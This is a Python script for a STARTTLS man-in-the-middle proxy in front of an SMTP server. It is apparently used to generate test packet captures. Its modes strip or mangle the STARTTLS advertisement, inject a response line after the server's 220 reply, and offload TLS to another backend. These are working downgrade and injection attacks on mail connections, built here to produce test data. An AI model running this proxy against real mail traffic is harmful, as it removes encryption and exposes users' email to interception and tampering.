#!/usr/bin/python3
"""A STARTTLS man-in-the-middle: a TCP proxy in front of a real SMTP server.

Used by generate.sh for findings-stripped.pcap and findings-injection.pcap.
The proxy listens on --listen ADDR:PORT (the address the capture sees as
"the server") and relays every connection to the real server --backend
ADDR:PORT (Postfix on a port that is not captured).  What it does to a
connection depends on the client's address (--rule CLIENT=MODE, default
"pass"):

  pass     relay both directions untouched (byte for byte; the server then
           advertises STARTTLS as usual)
  pix      Cisco-PIX-style "fixup": in every server reply, a line
           "250-STARTTLS" / "250 STARTTLS" has STARTTLS replaced by XXXXXXXA
           (same length, so nothing else changes)
  drop     the STARTTLS line is removed from the EHLO reply (no marks left;
           only the server's other sessions tell)
  inject   response injection: the server's reply to STARTTLS ("220 2.0.0
           Ready to start TLS") is forwarded with an extra line
           "250 injected\\r\\n" appended in the same write, before any TLS
           byte; after that both directions are relayed untouched
  offload  TLS offloading: the SMTP dialogue up to and including the
           server's 220 reply to STARTTLS is relayed as in "pass"; then the
           proxy hangs up on the SMTP server and splices the client's TCP
           stream to --tls-backend ADDR:PORT (gnutls-serv), which does the
           TLS handshake with the client.  Used for the 3DES/RC4 sessions
           that Debian's OpenSSL (hence Postfix) cannot negotiate.

In the rewriting modes server replies are collected line by line and each
complete reply is written in one piece (as Postfix itself writes it).
Client bytes are always relayed untouched.  "--rule '*=MODE'" sets the
mode of all other clients.  Each connection is logged to stderr.  Writes "ready" to --ready-file once listening.
Only Debian's /usr/bin/python3 standard library is used.
"""
import argparse
import asyncio
import sys

INJECTED = b"250 injected\r\n"


def log(*a):
    print(*a, file=sys.stderr, flush=True)


async def pump(reader, writer):
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            writer.write(data)
            await writer.drain()
    except (ConnectionError, OSError):
        pass
    finally:
        try:
            writer.write_eof()
        except (OSError, RuntimeError):
            pass


def rewrite_reply(lines, mode):
    """lines: the raw lines (with CRLF) of one complete reply."""
    out = []
    for line in lines:
        text = line[4:].strip().upper()
        if line[:3] == b"250" and text == b"STARTTLS":
            if mode == "pix":
                line = line[:4] + b"XXXXXXXA" + line[12:]
            elif mode == "drop":
                continue
        out.append(line)
    if mode == "drop" and out and lines and out[-1] != lines[-1]:
        # the STARTTLS line was the last one: the new last line ends the reply
        out[-1] = out[-1][:3] + b" " + out[-1][4:]
    return out


async def server_to_client(reader, writer, mode, peer, switch=None):
    """Rewrite server replies for the pix/drop/inject/offload modes."""
    buf = b""
    reply = []
    replies = 0
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            buf += data
            out = b""
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                line += b"\n"
                reply.append(line)
                if len(line) >= 4 and line[3:4] == b"-":
                    continue
                replies += 1
                if mode in ("pix", "drop"):
                    new = rewrite_reply(reply, mode)
                    if new != reply:
                        log("%s: %s: EHLO reply rewritten" % (peer, mode))
                    out += b"".join(new)
                    reply = []
                    continue
                out += b"".join(reply)
                if mode == "offload" and replies > 1 and reply[-1][:4] == b"220 ":
                    # splice the client to the TLS backend before it can
                    # send its ClientHello (it waits for this 220)
                    treader = await switch()
                    log("%s: offload: TLS now with the TLS backend" % peer)
                    writer.write(out)
                    await writer.drain()
                    await pump(treader, writer)
                    return
                # mode inject: the first 220 after the banner answers STARTTLS
                if mode == "inject" and replies > 1 and reply[-1][:4] == b"220 ":
                    out += INJECTED
                    log("%s: inject: appended %r after %r" % (peer, INJECTED, reply[-1]))
                    reply = []
                    writer.write(out + buf)
                    await writer.drain()
                    await pump(reader, writer)   # TLS from here on: untouched
                    return
                reply = []
            if out:
                writer.write(out)
                await writer.drain()
    except (ConnectionError, OSError):
        pass
    finally:
        try:
            writer.write_eof()
        except (OSError, RuntimeError):
            pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--listen", required=True, help="ADDR:PORT")
    ap.add_argument("--backend", required=True, help="ADDR:PORT")
    ap.add_argument("--rule", action="append", default=[],
                    help="CLIENT=pass|pix|drop|inject|offload (CLIENT * = all others)")
    ap.add_argument("--tls-backend", help="ADDR:PORT for mode offload")
    ap.add_argument("--ready-file", required=True)
    args = ap.parse_args()
    rules = {}
    for r in args.rule:
        client, mode = r.split("=", 1)
        if mode not in ("pass", "pix", "drop", "inject", "offload"):
            sys.exit("unknown mode " + mode)
        rules[client] = mode
    lhost, lport = args.listen.rsplit(":", 1)
    bhost, bport = args.backend.rsplit(":", 1)

    async def handle(creader, cwriter):
        peer = cwriter.get_extra_info("peername")[0]
        mode = rules.get(peer, rules.get("*", "pass"))
        log("%s: connection, mode %s" % (peer, mode))
        sreader, swriter = await asyncio.open_connection(bhost, int(bport))
        target = [swriter]   # where client bytes go (offload switches it)

        async def up_pump():
            try:
                while True:
                    data = await creader.read(65536)
                    if not data:
                        break
                    target[0].write(data)
                    await target[0].drain()
            except (ConnectionError, OSError):
                pass
            finally:
                try:
                    target[0].write_eof()
                except (OSError, RuntimeError):
                    pass

        async def switch():
            thost, tport = args.tls_backend.rsplit(":", 1)
            treader, twriter = await asyncio.open_connection(thost, int(tport))
            target[0] = twriter
            swriter.close()   # the SMTP server sees the client go away
            return treader

        up = asyncio.ensure_future(up_pump())
        if mode == "pass":
            down = asyncio.ensure_future(pump(sreader, cwriter))
        else:
            down = asyncio.ensure_future(server_to_client(sreader, cwriter, mode, peer, switch))
        await asyncio.gather(up, down)
        cwriter.close()
        target[0].close()
        swriter.close()
        log("%s: closed" % peer)

    loop = asyncio.new_event_loop()
    asyncio.set_event_loop(loop)
    server = loop.run_until_complete(asyncio.start_server(handle, lhost, int(lport)))
    with open(args.ready_file, "w") as f:
        f.write("ready\n")
    try:
        loop.run_forever()
    finally:
        server.close()


if __name__ == "__main__":
    main()
